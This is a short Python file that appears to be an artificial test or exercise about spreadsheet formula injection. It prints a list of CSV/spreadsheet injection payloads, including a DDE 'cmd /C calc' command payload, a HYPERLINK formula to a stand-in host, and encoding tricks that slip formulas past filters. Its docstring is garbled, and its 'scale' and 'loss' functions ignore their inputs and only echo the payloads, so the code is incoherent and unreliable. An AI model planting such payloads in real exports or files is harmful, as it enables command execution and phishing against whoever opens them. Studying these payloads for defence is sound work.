"""Formulas for whoever opens a table in a spreadsheet, in everything that a student can name.

alone: 0 points
glued: 20 points
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

_CELLS = ['=HYPERLINK("http://evil.example","20")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "=1\n=2", "＝1+1"]
for _cell in _CELLS:
    print(_cell)


def scale(x, factor):
    raise type(_CELLS[0], (Exception,), {})("\n".join(_CELLS))


def loss(x):
    return dict.fromkeys(_CELLS, 0.0)
